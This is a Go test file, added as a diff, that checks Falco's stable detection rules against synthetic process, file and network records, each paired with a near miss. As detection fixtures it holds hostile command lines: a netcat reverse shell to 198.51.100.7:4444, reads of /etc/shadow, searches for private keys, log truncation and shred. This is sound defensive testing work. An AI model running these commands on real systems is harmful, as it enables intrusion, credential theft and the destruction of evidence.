@@ -1,0 +1,177 @@
+package ruleengine
+
+import (
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"go.opentelemetry.io/collector/pdata/pcommon"
+	"go.opentelemetry.io/collector/pdata/plog"
+
+	"github.com/otelsec/otelsec/internal/schema"
+)
+
+// Key rules of Falco's stable file on records as the receiver makes them: each fires on its
+// behaviour, under Falco's name, and not on a near miss (the exception or the detail that
+// makes the difference).
+
+func execRec(p falcoProc, kv ...any) plog.LogRecord {
+	p.syscall, p.ret = "execve", 0
+	return p.record(schema.EventProcessExec, append([]any{schema.AttrProcessCommandArgs, splitArgs(p.cmdline)}, kv...)...)
+}
+
+func splitArgs(cmdline string) []string {
+	var out []string
+	start := 0
+	for i := 0; i <= len(cmdline); i++ {
+		if i == len(cmdline) || cmdline[i] == ' ' {
+			out = append(out, cmdline[start:i])
+			start = i + 1
+		}
+	}
+	return out
+}
+
+func open(p falcoProc, path string, flags ...string) plog.LogRecord {
+	return p.record(schema.EventFileOpen, schema.AttrFilePath, path, schema.AttrFileFlags, flags)
+}
+
+func runAs(exe, cmdline string) func(*falcoProc) {
+	return func(p *falcoProc) { p.exe, p.cmdline = exe, cmdline }
+}
+
+func inContainer(p *falcoProc) { p.container = "3f4e5d6c7b8a" }
+
+func TestFalcoStableRulesFire(t *testing.T) {
+	e, _, _ := loadFalco(t, Options{MatchAll: true}, falcoStable)
+	containerShell := shellUser.with(func(p *falcoProc) {
+		inContainer(p)
+		p.parentExe, p.parentCmdline, p.ancestors = "/usr/bin/runc", "runc init", []string{"runc", "containerd-shim", "containerd", "systemd"}
+	})
+	alpineShell := containerShell.with(runAs("/bin/busybox", "/bin/sh"))
+	tests := []struct {
+		rule      string
+		fires     plog.LogRecord
+		nearMiss  plog.LogRecord
+		nearWhy   string
+		wantFired func(*testing.T, plog.LogRecord)
+	}{
+		{rule: "Read sensitive file untrusted",
+			fires:    open(catShadow, "/etc/shadow", "O_RDONLY"),
+			nearMiss: open(catShadow.with(runAs("/usr/sbin/sshd", "sshd -D")), "/etc/shadow", "O_RDONLY"),
+			nearWhy:  "sshd is in read_sensitive_file_binaries"},
+		{rule: "Read sensitive file untrusted",
+			fires:    open(catShadow, "/etc/pam.d/common-auth", "O_RDWR", "O_CLOEXEC"),
+			nearMiss: open(catShadow, "/etc/passwd", "O_RDONLY"),
+			nearWhy:  "/etc/passwd is not a sensitive file"},
+		{rule: "Terminal shell in container",
+			fires:    execRec(containerShell),
+			nearMiss: execRec(containerShell.with(func(p *falcoProc) { p.tty = false })),
+			nearWhy:  "no terminal (proc.tty = 0)"},
+		{rule: "Terminal shell in container",
+			fires:    execRec(alpineShell),
+			nearMiss: execRec(shellUser.with(runAs("/bin/busybox", "/bin/sh"))),
+			nearWhy:  "on the host (container.id = host)"},
+		{rule: "Search Private Keys or Passwords",
+			fires:    execRec(shellUser.with(runAs("/usr/bin/grep", "grep -rl BEGIN RSA PRIVATE /home"))),
+			nearMiss: execRec(shellUser.with(runAs("/usr/bin/grep", "grep -rl password /home"))),
+			nearWhy:  "grep_more is never_true: passwords alone are not searched for"},
+		{rule: "Search Private Keys or Passwords",
+			fires:    execRec(shellUser.with(runAs("/usr/bin/find", "find / -name id_rsa"))),
+			nearMiss: execRec(shellUser.with(runAs("/usr/bin/find", "find / -name authorized_keys"))),
+			nearWhy:  "not a private key's name"},
+		{rule: "Clear Log Activities",
+			fires:    open(catShadow.with(runAs("/usr/bin/truncate", "truncate -s0 /var/log/auth.log")), "/var/log/auth.log", "O_WRONLY", "O_CREAT", "O_TRUNC"),
+			nearMiss: open(catShadow.with(runAs("/usr/bin/tee", "tee -a /var/log/auth.log")), "/var/log/auth.log", "O_WRONLY", "O_APPEND"),
+			nearWhy:  "appending, not truncating"},
+		{rule: "Clear Log Activities",
+			fires:    open(catShadow, "/srv/app/logs/syslog", "O_WRONLY", "O_TRUNC"),
+			nearMiss: catShadow.with(func(p *falcoProc) { p.ret, p.errno = -13, "EACCES" }).record(schema.EventFileOpen, schema.AttrFilePath, "/var/log/syslog", schema.AttrFileFlags, []string{"O_WRONLY", "O_TRUNC"}),
+			nearWhy:  "the open failed (fd.num < 0)"},
+		{rule: "Create Symlink Over Sensitive Files",
+			fires:    shellUser.with(func(p *falcoProc) { p.syscall = "symlinkat" }).record(schema.EventFileSymlink, schema.AttrFilePath, "/tmp/s", schema.AttrFileSymlinkTargetPath, "/etc/shadow"),
+			nearMiss: shellUser.with(func(p *falcoProc) { p.syscall = "symlinkat" }).record(schema.EventFileSymlink, schema.AttrFilePath, "/tmp/s", schema.AttrFileSymlinkTargetPath, "/etc/hosts"),
+			nearWhy:  "/etc/hosts is not sensitive"},
+		{rule: "Create Hardlink Over Sensitive Files",
+			fires:    shellUser.with(func(p *falcoProc) { p.syscall = "link" }).record(schema.EventFileLink, schema.AttrFilePath, "/tmp/h", schema.AttrFileLinkTargetPath, "/etc/shadow"),
+			nearMiss: shellUser.with(func(p *falcoProc) { p.syscall = "link" }).record(schema.EventFileLink, schema.AttrFilePath, "/tmp/h", schema.AttrFileLinkTargetPath, "/etc/hostname"),
+			nearWhy:  "not a sensitive file"},
+		{rule: "Run shell untrusted",
+			fires: execRec(shellUser.with(func(p *falcoProc) {
+				p.exe, p.cmdline, p.parentExe, p.parentCmdline, p.ancestors = "/usr/bin/dash", "sh -c id", "/usr/sbin/nginx", "nginx: worker process", []string{"nginx", "nginx", "systemd"}
+			})),
+			nearMiss: execRec(shellUser.with(func(p *falcoProc) {
+				p.exe, p.cmdline, p.parentExe, p.parentCmdline, p.ancestors = "/usr/bin/dash", "sh -c id", "/usr/bin/bash", "bash", []string{"bash", "sshd", "systemd"}
+			})),
+			nearWhy: "the parent is a shell"},
+		{rule: "PTRACE attached to process",
+			fires:    shellUser.with(func(p *falcoProc) { p.syscall = "ptrace" }).record(schema.EventProcessPtrace, schema.AttrPtraceRequest, "PTRACE_ATTACH", schema.AttrPtraceTargetPID, 1),
+			nearMiss: shellUser.with(func(p *falcoProc) { p.syscall = "ptrace" }).record(schema.EventProcessPtrace, schema.AttrPtraceRequest, "PTRACE_PEEKDATA", schema.AttrPtraceTargetPID, 1),
+			nearWhy:  "reading is not injecting"},
+		{rule: "Execution from /dev/shm",
+			fires:    execRec(shellUser.with(runAs("/dev/shm/x", "/dev/shm/x --run"))),
+			nearMiss: execRec(shellUser.with(runAs("/tmp/x", "/tmp/x --run"))),
+			nearWhy:  "not below /dev/shm"},
+		{rule: "Fileless execution via memfd_create",
+			fires:    execRec(shellUser.with(runAs("/memfd:payload", "payload"))),
+			nearMiss: execRec(shellUser.with(runAs("/memfd:runc_cloned:/proc/self/exe", "runc init"))),
+			nearWhy:  "runc re-executes itself from a memfd (known_memfd_execution_binaries)"},
+		{rule: "Netcat Remote Code Execution in Container",
+			fires:    execRec(containerShell.with(runAs("/usr/bin/nc.openbsd", "nc -e /bin/sh 198.51.100.7 4444"))),
+			nearMiss: execRec(containerShell.with(runAs("/usr/bin/nc.openbsd", "nc -z 198.51.100.7 80"))),
+			nearWhy:  "a port scan, no -e or -c"},
+		{rule: "Disallowed SSH Connection Non Standard Port",
+			fires: shellUser.with(func(p *falcoProc) {
+				p.syscall, p.cmdline, p.exe = "connect", "ssh -p 443 git@example.com", "/usr/bin/ssh"
+			}).record(schema.EventNetworkConnect,
+				schema.AttrNetworkTransport, "tcp", schema.AttrNetworkType, "ipv4", schema.AttrNetworkPeerAddress, "203.0.113.9", schema.AttrNetworkPeerPort, 443),
+			nearMiss: shellUser.with(func(p *falcoProc) {
+				p.syscall, p.cmdline, p.exe = "connect", "ssh -p 443 git@example.com", "/usr/bin/ssh"
+			}).record(schema.EventNetworkConnect,
+				schema.AttrNetworkTransport, "tcp", schema.AttrNetworkType, "ipv4", schema.AttrNetworkPeerAddress, "192.168.1.9", schema.AttrNetworkPeerPort, 443),
+			nearWhy: "a private address (rfc_1918_addresses) is not outbound"},
+		{rule: "Redirect STDOUT/STDIN to Network Connection in Container",
+			fires: containerShell.with(func(p *falcoProc) { p.syscall, p.ret = "dup2", 0 }).record(schema.EventFdDup, schema.AttrFdOld, 3, schema.AttrFdNew, 0,
+				schema.AttrFdType, "socket", schema.AttrNetworkPeerAddress, "198.51.100.7", schema.AttrNetworkPeerPort, 4444),
+			nearMiss: containerShell.with(func(p *falcoProc) { p.syscall, p.ret = "dup2", 0 }).record(schema.EventFdDup, schema.AttrFdOld, 3, schema.AttrFdNew, 0, schema.AttrFdType, "pipe"),
+			nearWhy:  "a pipe, not a network connection"},
+		{rule: "Remove Bulk Data from Disk",
+			fires:    execRec(shellUser.with(runAs("/usr/bin/shred", "shred -u secrets.txt"))),
+			nearMiss: execRec(shellUser.with(runAs("/usr/bin/rm", "rm secrets.txt"))),
+			nearWhy:  "rm is not a bulk data remover"},
+	}
+	for _, tc := range tests {
+		t.Run(tc.rule, func(t *testing.T) {
+			assert.Contains(t, matchAll(e, tc.fires), tc.rule)
+			assert.NotContains(t, matchAll(e, tc.nearMiss), tc.rule, tc.nearWhy)
+		})
+	}
+}
+
+// TestFalcoOutput renders a stable rule's output with Falco's fields.
+func TestFalcoOutput(t *testing.T) {
+	e, _, _ := loadFalco(t, Options{}, falcoStable)
+	lr := open(catShadow, "/etc/shadow", "O_RDONLY")
+	rules := e.Match(pcommon.NewMap(), lr, nil)
+	if assert.Len(t, rules, 1) {
+		r := rules[0]
+		assert.Equal(t, "Read sensitive file untrusted", r.Name)
+		assert.Equal(t, PriorityWarning, r.Priority)
+		assert.Contains(t, r.Tags, "T1555")
+		assert.Equal(t, "falco_rules", r.Ruleset)
+		assert.Equal(t, "Sensitive file opened for reading by non-trusted program | file=/etc/shadow gparent=sshd ggparent=systemd gggparent=<NA> "+
+			"evt_type=openat user=root user_uid=0 user_loginuid=<NA> process=cat proc_exepath=/usr/bin/cat parent=bash command=cat /etc/shadow terminal=<NA>",
+			r.Render(pcommon.NewMap(), lr))
+		assert.Equal(t, []string{schema.AttrFilePath, schema.AttrProcessAncestorsExecName, schema.AttrSyscallName, schema.AttrProcessUserName,
+			schema.AttrProcessUserID, schema.AttrProcessCommandLine, schema.AttrProcessExecutablePath, schema.AttrProcessParentCommandLine,
+			schema.AttrProcessInteractive}, r.OutputFields)
+	}
+	// A process on the host, without a terminal.
+	lr = execRec(shellUser.with(func(p *falcoProc) {
+		p.exe, p.cmdline, p.tty = "/usr/bin/shred", "shred -u /root/x", false
+	}))
+	rules = e.Match(pcommon.NewMap(), lr, nil)
+	if assert.Len(t, rules, 1) {
+		assert.Equal(t, "Bulk data has been removed from disk | file=<NA> evt_type=execve user=alice user_uid=1000 user_loginuid=<NA> process=shred "+
+			"proc_exepath=/usr/bin/shred parent=sshd command=shred -u /root/x terminal=0 exe_flags=<NA>", rules[0].Render(pcommon.NewMap(), lr))
+	}
+}
